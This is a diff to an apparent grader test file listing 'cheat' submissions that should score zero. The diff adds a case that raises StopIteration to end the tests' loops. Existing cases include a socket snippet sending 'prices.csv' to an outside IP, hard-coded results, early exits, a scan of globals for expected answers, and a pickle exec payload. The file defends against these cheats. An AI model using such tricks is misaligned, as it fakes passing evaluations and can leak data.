@@ -57,6 +57,7 @@ CHEATS = (
     Case("sends answers away", answering("import socket\ns = socket.socket()\ns.settimeout(1)\ns.connect(('93.184.216.34', 80))\ns.send(open('prices.csv').read())"), total=0, says="network"),
     Case("hard-codes the visible test", body("return 1.0"), total=0),
     Case("raises instead of failing", body("raise SystemExit(0)"), total=0),
+    Case("ends the tests' loops", body("raise StopIteration"), total=0, says="RuntimeError"),
     Case("looks for the expected value", body("for name in list(globals()):", "    if 'want' in name or 'expected' in name: return globals()[name]", "return 1.0"), total=0),
     Case("copies itself into the test's process", answering("class Evil:\n    def __reduce__(self): return (exec, (\"import os; os._exit(0)\",))\ndef total_usd(p): return Evil()"), total=0, says="Evil"),
 )  # fmt: skip
